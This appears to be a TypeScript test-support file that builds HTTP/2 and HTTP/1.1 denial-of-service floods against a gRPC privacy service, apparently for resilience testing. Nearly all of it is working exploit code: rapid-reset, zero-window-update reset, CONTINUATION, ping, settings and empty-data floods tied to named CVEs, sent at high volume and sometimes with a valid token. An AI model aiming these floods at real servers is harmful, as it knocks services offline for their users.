import type { Socket } from "node:net";
import { headerBlock, http2Frame, preface } from "../../support/frames.ts";
import { flood } from "./attacker.ts";
import { admission } from "./slow.ts";

/** A way to keep a server busy for nothing over one connection. */
export interface FloodKind {
  readonly kind: string;
  readonly act: (socket: Socket) => void;
}

const start = Buffer.concat([preface, http2Frame(4, 0, 0, Buffer.alloc(0))]);
const block = headerBlock([
  [":method", "POST"],
  [":scheme", "http"],
  [":authority", "h"],
  [":path", "/nexgate.privacy.v1.PrivacyControlService/GetPrivacySettings"],
  ["content-type", "application/grpc"],
]);
const endHeaders = 4;
const endStream = 1;
/** Frames in one write, and writes on one connection. */
const perWrite = 100;
const writes = 1_000;

const repeated = (one: Buffer) => {
  const bytes = Buffer.concat(Array.from({ length: perWrite }, () => one));
  return () => bytes;
};
/** Frames on streams of their own. */
const onStreams = (frames: (stream: number) => Buffer[]) => (turn: number) =>
  Buffer.concat(Array.from({ length: perWrite }, (_, i) => frames((turn * perWrite + i) * 2 + 1)).flat());
const after = (first: Buffer, bytes: (turn: number) => Buffer) => (socket: Socket) => {
  socket.write(Buffer.concat([start, first]));
  flood(socket, bytes, writes);
};
const nothing = Buffer.alloc(0);
const get = Buffer.from("GET /users/me/privacy HTTP/1.1\r\nHost: h\r\n\r\n");
const cancel = Buffer.from([0, 0, 0, 8]);

/** Every flood of one connection, with a valid token where that makes it worse. */
export function floodKinds(token: string, user: string): FloodKind[] {
  const admitted = Buffer.concat([block, admission(token, user)]);
  return [
    {
      // CVE-2023-44487.
      kind: "rapid resets",
      act: after(
        nothing,
        onStreams((stream) => [
          http2Frame(1, endHeaders | endStream, stream, admitted),
          http2Frame(3, 0, stream, cancel),
        ]),
      ),
    },
    {
      // CVE-2025-8671: the server is made to reset, by a window that grows by nothing.
      kind: "made resets",
      act: after(
        nothing,
        onStreams((stream) => [
          http2Frame(1, endHeaders, stream, admitted),
          http2Frame(8, 0, stream, Buffer.alloc(4)),
        ]),
      ),
    },
    {
      // CVE-2024-27316.
      kind: "continuations",
      act: after(
        http2Frame(1, endStream, 1, block),
        repeated(http2Frame(9, 0, 1, headerBlock([["x", "y".repeat(100)]]))),
      ),
    },
    {
      kind: "empty continuations",
      act: after(http2Frame(1, endStream, 1, block), repeated(http2Frame(9, 0, 1, nothing))),
    },
    // CVE-2019-9512, 9515, 9518.
    { kind: "pings", act: after(nothing, repeated(http2Frame(6, 0, 0, Buffer.alloc(8)))) },
    {
      kind: "settings",
      act: after(nothing, repeated(http2Frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])))),
    },
    {
      kind: "empty data",
      act: after(http2Frame(1, endHeaders, 1, admitted), repeated(http2Frame(0, 0, 1, nothing))),
    },
    { kind: "requests in one go, HTTP/1.1", act: (socket) => flood(socket, repeated(get), writes) },
    {
      kind: "bytes that are nothing",
      act: (socket) => flood(socket, repeated(Buffer.alloc(100, "x")), writes),
    },
  ];
}
